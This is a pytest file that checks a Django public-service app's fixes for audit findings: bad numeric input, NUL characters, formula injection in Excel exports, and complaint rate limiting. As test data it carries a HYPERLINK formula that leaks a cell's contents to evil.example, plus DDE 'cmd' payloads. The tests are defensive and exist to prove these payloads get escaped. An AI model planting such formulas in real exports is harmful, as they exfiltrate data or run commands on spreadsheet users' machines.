"""Issue 12, findings 4, 5 and 6: bad input never reaches a 500, exported cells are never
formulas, and complaints are rate-limited and do not tell whether a case exists.

These run on whichever database the suite runs on (SQLite, and PostgreSQL when
BANGBAN_DATABASE_URL names one): the NUL character is what PostgreSQL refused with a 500,
the overflowing id what SQLite refused.
"""

from __future__ import annotations

import io
import json
import re
from datetime import time, timedelta

import pytest
from django.core.cache import cache
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from bangban.apiauth.testing import ApiClient
from bangban.cases.tests.helpers import open_case
from bangban.clients.services import ClientInput, client_register
from bangban.inputs import MAX_ID, bounded_int, id_or_none, ids_or_none, int_or_none
from bangban.oversight.models import Complaint
from bangban.oversight.records.services import complaint_submit
from bangban.portal.identity import PortalIdentity
from bangban.portal.tests.conftest import sign_in
from bangban.portal.views.feedback import COMPLAINTS_PER_HOUR
from bangban.visits import services as booking
from bangban.xlsx import safe_row

HUGE = "99999999999999999999"  # 20 digits: past 2⁶³−1, which SQLite cannot hold
BAD_NUMBERS = ["abc", "", "-1", "0", HUGE, "²", "１２", "1e3", " 7x", "9" * 5000]


@pytest.fixture(autouse=True)
def _fresh_rate_limits():
    cache.clear()
    yield
    cache.clear()


def logged_in(staff) -> Client:
    client = Client()
    client.force_login(staff.user)
    return client


# --- the one reader of numbers --------------------------------------------------------------


def test_finding_5_numbers_are_read_one_careful_way():
    assert id_or_none("42") == 42 and id_or_none(" 42 ") == 42 and id_or_none(7) == 7
    for bad in BAD_NUMBERS + [None, True, str(MAX_ID + 1)]:
        assert id_or_none(bad) is None, bad
    assert id_or_none(str(MAX_ID)) == MAX_ID
    assert int_or_none("-3") == -3 and int_or_none("-3", low=0) is None
    assert ids_or_none(["1", "2"]) == [1, 2] and ids_or_none(["1", HUGE]) is None
    assert bounded_int("abc", 0, low=0, high=2) == 0
    assert bounded_int("999", 0, low=0, high=2) == 2 and bounded_int(HUGE, 1, low=0, high=2) == 1
    assert bounded_int("-5", 1, low=0, high=2) == 0


# --- finding 5: the 500s named in the issue ----------------------------------------------------


def complaint_form(**extra):
    return {
        "number": "",
        "site": "",
        "name": "张三",
        "phone": "13812345678",
        "content": "窗口排队太久",
        **extra,
    }


@pytest.mark.django_db
@pytest.mark.parametrize("step", ["abc", HUGE, "-5", "²", ""])
def test_finding_5_a_complaint_with_a_bad_step_is_not_a_500(world, step):
    response = Client().post("/complaints/new/", complaint_form(_step=step))
    assert response.status_code in (200, 302)
    elder = Client()
    elder.cookies["elder"] = "1"
    response = elder.post("/complaints/new/", {"_step": step, "site": "V1"})
    assert response.status_code == 200 and "第 " in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("step", ["abc", HUGE, "-1"])
def test_finding_5_a_home_visit_with_a_bad_step_is_not_a_500(world, step):
    client = Client()
    client.cookies["elder"] = "1"
    sign_in(client, "13812345678")
    response = client.post("/home-visit/", {"_step": step, "name": "王奶奶"})
    assert response.status_code == 200
    assert "第 1 步" in response.content.decode() or "第 2 步" in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("slot", BAD_NUMBERS)
def test_finding_5_rescheduling_to_a_slot_that_is_not_a_number_is_refused_in_words(world, slot):
    tomorrow = timezone.localdate() + timedelta(days=1)
    first = booking.slots_open(site=world.village_a, day=tomorrow, times=[(time(9), time(10))])[0]
    made = booking.appointment_book(
        slot=first, identity=PortalIdentity.of_mobile("13812345678"), name="张三", purpose="办证"
    )
    client = Client()
    sign_in(client, "13812345678")
    response = client.post(f"/appointments/{made.number}/reschedule/", {"slot": slot})
    assert response.status_code == 200 and "请选择新的时段" in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("assignee", ["abc", HUGE, "-1", "²", ""])
def test_finding_5_assigning_a_complaint_to_a_bad_id_is_refused_in_words(world, assignee):
    complaint = complaint_submit(
        channel="online", complainant_name="张三", contact="13812345678", content="态度不好"
    )
    client = logged_in(world.coordinator)
    response = client.post(
        f"/oversight/complaints/{complaint.pk}/assign/", {"assignee": assignee}, follow=True
    )
    assert response.status_code == 200 and "请选择在岗的承办人" in response.content.decode()
    complaint.refresh_from_db()
    assert complaint.assigned_to is None


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["site", "agent", "item"])
@pytest.mark.parametrize("value", [HUGE, "²", "abc"])
def test_finding_5_a_ledger_filter_that_is_no_id_is_ignored_and_said(world, name, value):
    open_case(world)
    client = logged_in(world.coordinator)
    response = client.get("/work/ledger/", {name: value})
    assert response.status_code == 200
    page = response.content.decode()
    assert "选择有误，已忽略该条件" in page
    assert client.get("/work/ledger.xlsx", {name: value}).status_code == 200


@pytest.mark.django_db
def test_finding_5_overflowing_ids_everywhere_a_query_names_one(world):
    client = logged_in(world.coordinator)
    for path, params in [
        ("/work/ledger/", {"after": HUGE}),
        ("/work/log/", {"staff": HUGE}),
        ("/oversight/", {"site": HUGE, "agent": HUGE, "item": HUGE, "category": HUGE}),
        ("/oversight/list/on_time/", {"by": "agent", "key": HUGE}),
        ("/oversight/list/on_time/", {"by": "month", "key": "abc"}),
        ("/oversight/complaints/", {"page": HUGE}),
    ]:
        response = client.get(path, params)
        assert response.status_code < 500, (path, params, response.status_code)


@pytest.mark.django_db
def test_finding_5_dates_at_the_end_of_the_calendar_are_refused_not_a_500(world):
    """Found by the fuzz test: "the day after 9999-12-31" overflowed Python's dates."""
    open_case(world)
    client = logged_in(world.coordinator)
    ledger = client.get("/work/ledger/", {"date_from": "9999-12-31", "date_to": "9999-12-31"})
    assert ledger.status_code == 200 and "格式应为 年-月-日" in ledger.content.decode()
    assert client.get("/work/log/", {"day": "9999-12-31"}).status_code == 200
    assert (
        client.get("/oversight/", {"start": "0001-01-01", "end": "9999-12-31"}).status_code == 200
    )
    listing = client.get("/oversight/list/on_time/", {"by": "month", "key": "9999-12-01"})
    assert listing.status_code == 200
    report = client.get(f"/oversight/report/{world.county.pk}/9999-12.xlsx")
    assert report.status_code == 404


@pytest.mark.django_db
def test_finding_5_an_overflowing_id_in_the_path_is_not_found(world):
    client = logged_in(world.coordinator)
    for path in (
        f"/oversight/complaints/{HUGE}/",
        f"/oversight/rectifications/{HUGE}/",
        f"/appointments/slots/{HUGE}/",
    ):
        response = client.get(path)
        assert response.status_code == 404, path
        assert "记录不存在" in response.content.decode()
    api = ApiClient(world.agent_a)
    response = api.get(f"/clients/{HUGE}")
    assert response.status_code == 404 and response.json()["code"] == "not_found"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path", ["/items/%00/", "/disclosure/%00/", "/items/?q=%00", "/track/?number=a%00b"]
)
def test_finding_5_a_nul_in_the_path_or_query_is_refused_at_the_edge(world, path):
    response = Client().get(path)
    assert response.status_code == 400
    assert "NUL" in response.content.decode() and "请删除后重新填写" in response.content.decode()


@pytest.mark.django_db
def test_finding_5_a_nul_in_a_form_is_refused_before_the_view(world):
    response = Client().post("/complaints/new/", complaint_form(content="投诉\x00内容"))
    assert response.status_code == 400 and not Complaint.objects.exists()
    response = Client().post("/track/", {"number": "BJ\x00", "phone": "13812345678"})
    assert response.status_code == 400


@pytest.mark.django_db
def test_finding_5_a_nul_anywhere_in_an_api_request_is_a_400_in_json(world):
    api = ApiClient(world.agent_a)
    progress = api.get("/progress", number="\x00", phone="13812345678")
    assert progress.status_code == 400 and progress.json()["code"] == "invalid"
    raw = '{"kind": "person", "name": "张\\u0000三", "id_number": "x"}'  # JSON's own escape
    response = api.http.post(
        "/api/clients", raw, content_type="application/json", headers=api.headers
    )
    assert response.status_code == 400 and "NUL" in response.json()["message"]
    nested = {"event": "note", "expected_version": 1, "details": {"text": ["a", "b\x00"]}}
    response = api.post("/cases/BJ-V1-2026-000001/events", nested)
    assert response.status_code == 400
    # an escaped backslash followed by "u0000" is six ordinary characters, not a NUL
    assert api.post("/clients", {"kind": "person", "name": "\\u0000"}).status_code != 500


@pytest.mark.django_db
def test_finding_5_a_nul_in_a_header_is_refused(world):
    response = Client().post(
        "/accounts/login/",
        {"username": "agent_a", "password": "wrong"},
        headers={"User-Agent": "Mozilla\x00"},
    )
    assert response.status_code == 400


@pytest.mark.django_db
def test_finding_5_a_cookie_with_a_nul_is_dropped_not_a_500(world):
    client = Client()
    client.cookies["sessionid"] = "abcdefgh\x00ijkl"
    client.cookies["csrftoken"] = "\x00"
    assert client.get("/items/").status_code == 200


# --- finding 4: formula injection ------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.mark.django_db
def test_finding_4_an_organisation_named_like_a_formula_is_exported_as_text(world):
    from bangban.cases.access import Actor
    from bangban.cases.services import case_submit

    org = client_register(
        data=ClientInput(
            kind="organisation",
            name=EVIL,
            id_number="91110108551385082Q",
            legal_representative="王五",
            mobile="13700001234",
        )
    )
    case_submit(
        actor=Actor.of_staff(world.agent_a),
        client=org,
        service_type="assist",
        channel="window",
        site=world.village_a,
        item_versions=[world.food.current_version],
    )
    response = logged_in(world.agent_a).get("/work/ledger.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["工作台账"]
    cells = [row[3] for row in sheet.iter_rows(min_row=2) if row[3].value == EVIL]
    assert cells, "the organisation's name is in the ledger"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix  # text, shown as typed
    promised = [row[11] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" for c in promised)  # numbers stay numbers


def test_finding_4_every_formula_start_is_escaped_and_numbers_are_kept():
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet("表")
    risky = ["=1+1", "+86 138", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    sheet.append(safe_row(sheet, [*risky, 12, -3, 1.5, "普通文字", None, "控制\x07字符"]))
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue()))["表"].iter_rows())
    # (XML reads a carriage return back as a line feed; it is still text, not a formula)
    assert [c.value for c in row[:6]] == [v.replace("\r", "\n") for v in risky]
    assert all(c.data_type == "s" and c.quotePrefix for c in row[:6])
    assert [(c.value, c.data_type) for c in row[6:9]] == [(12, "n"), (-3, "n"), (1.5, "n")]
    assert row[9].value == "普通文字" and not row[9].quotePrefix
    assert row[11].value == "控制字符"  # a control character .xlsx cannot hold is dropped


@pytest.mark.django_db
def test_finding_4_the_catalogue_export_escapes_and_reads_back_the_same(world, tmp_path):
    from bangban.catalogue.excel import export_workbook

    world.food.name = "=cmd|' /C calc'!A0"
    world.food.save()
    target = tmp_path / "catalogue.xlsx"
    export_workbook(target)
    sheet = load_workbook(target).worksheets[0]
    names = [row[1] for row in sheet.iter_rows(min_row=2) if row[1].value == world.food.name]
    assert names and all(c.data_type == "s" for c in names)


@pytest.mark.django_db
def test_finding_4_the_monthly_report_escapes_site_and_staff_names(world):
    from bangban.oversight.tests.helpers import completed_case

    world.village_a.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.village_a.save()
    world.agent_a.name = "=1+1"
    world.agent_a.save()
    completed_case(world)
    today = timezone.localdate()
    client = logged_in(world.coordinator)
    response = client.get(f"/oversight/report/{world.county.pk}/{today:%Y-%m}.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    risky = [
        cell
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@"
    ]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)


# --- finding 6: complaints ---------------------------------------------------------------------


@pytest.mark.django_db
def test_finding_6_complaints_are_limited_per_address(world):
    accepted = 0
    for _ in range(COMPLAINTS_PER_HOUR + 5):
        response = Client().post("/complaints/new/", complaint_form())  # a fresh browser each
        if response.status_code == 302:
            accepted += 1
        else:
            assert response.status_code == 429
            assert "提交投诉过于频繁" in response.content.decode()
    assert accepted == COMPLAINTS_PER_HOUR == Complaint.objects.count()
    # another address is not held back by this one
    other = Client(REMOTE_ADDR="10.0.0.9").post("/complaints/new/", complaint_form())
    assert other.status_code == 302


@pytest.mark.django_db
def test_finding_6_the_limit_counts_the_address_the_proxy_vouches_for(world, settings):
    settings.CLIENT_IP_HEADER = "X-Real-IP"
    for _ in range(COMPLAINTS_PER_HOUR):
        Client().post("/complaints/new/", complaint_form(), headers={"X-Real-IP": "10.1.1.1"})
    refused = Client().post("/complaints/new/", complaint_form(), headers={"X-Real-IP": "10.1.1.1"})
    assert refused.status_code == 429
    other = Client().post("/complaints/new/", complaint_form(), headers={"X-Real-IP": "10.1.1.2"})
    assert other.status_code == 302


def _answer(client, response) -> str:
    """What the complainant sees: the page the form leads to, minus the numbers that differ."""
    assert response.status_code == 302
    page = client.get(response["Location"]).content.decode()
    complaint = Complaint.objects.order_by("-id").first()
    page = re.sub(r'"X-CSRFToken": "[^"]+"', "", page)  # differs per browser
    return page.replace(complaint.number, "TS-…")


@pytest.mark.django_db
def test_finding_6_the_answer_is_the_same_whether_the_case_exists_or_not(world):
    real = open_case(world)
    real_number = real.number
    fake_number = real_number[:-6] + "999999"  # same site, a number never given
    assert not type(real).objects.filter(number=fake_number).exists()
    answers = []
    for number in (real_number, fake_number):
        client = Client()
        response = client.post("/complaints/new/", complaint_form(number=number))
        answers.append(_answer(client, response).replace(number, "BJ-…"))
    assert answers[0] == answers[1]
    found, not_found = Complaint.objects.order_by("id")
    assert found.site == not_found.site == world.village_a  # the site the number names
    assert found.case == real and not_found.case is None  # only staff see the match
    assert fake_number in not_found.content  # and the handler gets the number as typed
    assert "相关办件" not in answers[0]


@pytest.mark.django_db
def test_finding_6_an_unknown_case_number_is_no_longer_refused(world):
    response = Client().post("/complaints/new/", complaint_form(number="BJ-X-1"))
    assert response.status_code == 302
    complaint = Complaint.objects.get()
    assert complaint.site == world.county and "BJ-X-1" in complaint.content


def test_finding_5_the_json_check_ignores_bodies_that_are_not_json():
    from bangban.edge import _json_has_nul

    assert _json_has_nul(b'{"a": "\\u0000"}')
    assert _json_has_nul(b'{"a": ["x", {"\\u0000": 1}]}')
    assert _json_has_nul(b'{"a": "\\U0000"}') is False  # not a JSON escape: invalid JSON
    assert not _json_has_nul(b'{"a": "\\\\u0000"}')
    assert not _json_has_nul(json.dumps({"a": "普通"}).encode())
